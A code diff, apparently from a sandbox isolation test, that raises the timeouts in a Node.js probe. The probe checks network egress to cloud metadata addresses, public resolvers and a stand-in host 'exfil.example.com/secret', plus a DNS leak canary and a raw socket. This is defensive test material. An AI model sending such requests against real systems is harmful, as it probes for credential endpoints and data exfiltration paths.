@@ -43,14 +43,14 @@ const hostAddress =
 const probe = (port: number): string => `
 import net from 'node:net'; import dgram from 'node:dgram'; import dns from 'node:dns/promises'; import http from 'node:http'; import { execFileSync } from 'node:child_process';
 const out = {};
-const tcp = (host, port) => new Promise((resolve) => { const s = net.connect({ host, port, timeout: 4000 }); s.on('connect', () => { s.write('GET / HTTP/1.1\\r\\nhost: ' + (host.includes(':') ? '[' + host + ']' : host) + '\\r\\nconnection: close\\r\\n\\r\\n'); }); let text=''; s.on('data', (d) => { text += d; }); s.on('close', () => resolve(text.split('\\r\\n')[0] || 'closed')); s.on('timeout', () => { s.destroy(); resolve('hang'); }); s.on('error', (e) => resolve(e.code)); });
+const tcp = (host, port) => new Promise((resolve) => { const s = net.connect({ host, port, timeout: 120000 }); s.on('connect', () => { s.write('GET / HTTP/1.1\\r\\nhost: ' + (host.includes(':') ? '[' + host + ']' : host) + '\\r\\nconnection: close\\r\\n\\r\\n'); }); let text=''; s.on('data', (d) => { text += d; }); s.on('close', () => resolve(text.split('\\r\\n')[0] || 'closed')); s.on('timeout', () => { s.destroy(); resolve('hang'); }); s.on('error', (e) => resolve(e.code)); });
 for (const host of ['${hostAddress}', '127.0.0.1', '8.8.8.8', '2001:4860:4860::8888']) out['canary ' + host] = await tcp(host, ${port});
 for (const host of ['169.254.169.254', 'fd00:ec2::254', '169.254.170.2', '100.100.100.200', '10.0.0.1', '1.1.1.1', '::1']) out['http ' + host] = await tcp(host, 80);
 const udp = dgram.createSocket('udp4'); udp.on('error', () => {});
 for (const host of ['${hostAddress}', '8.8.8.8', '127.0.0.1']) { try { udp.send('x', ${port}, host); } catch (e) { out['udp ' + host] = e.code; } }
 out.txt = await dns.resolveTxt('leak.canary.example').then(() => 'answered', (e) => e.code);
 out.name = await new Promise((resolve) => http.get('http://exfil.example.com/secret', (r) => { let b=''; r.on('data', (d) => b += d); r.on('end', () => resolve(r.statusCode + ' ' + b)); }).on('error', (e) => resolve(e.code)));
-out.tls = await import('node:tls').then((tls) => new Promise((resolve) => { const s = tls.connect({ host: '1.1.1.1', port: 443, servername: 'exfil.example.com', timeout: 5000 }); s.on('secureConnect', () => resolve('connected')); s.on('timeout', () => resolve('hang')); s.on('error', (e) => resolve(e.code ?? String(e))); }));
+out.tls = await import('node:tls').then((tls) => new Promise((resolve) => { const s = tls.connect({ host: '1.1.1.1', port: 443, servername: 'exfil.example.com', timeout: 120000 }); s.on('secureConnect', () => resolve('connected')); s.on('timeout', () => resolve('hang')); s.on('error', (e) => resolve(e.code ?? String(e))); }));
 out.model = await new Promise((resolve) => http.request('http://model.sallyport.internal/v1/messages', { method: 'HEAD' }, (r) => resolve(r.statusCode)).on('error', (e) => resolve(e.code)).end());
 const sh = (c) => { try { return execFileSync('sh', ['-c', c], { stdio: ['ignore', 'pipe', 'pipe'] }).toString().trim(); } catch (e) { return 'failed: ' + (e.stderr?.toString().trim().split('\\n').pop() ?? ''); } };
 out.raw = sh('python3 -c "import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)" 2>&1 || true');
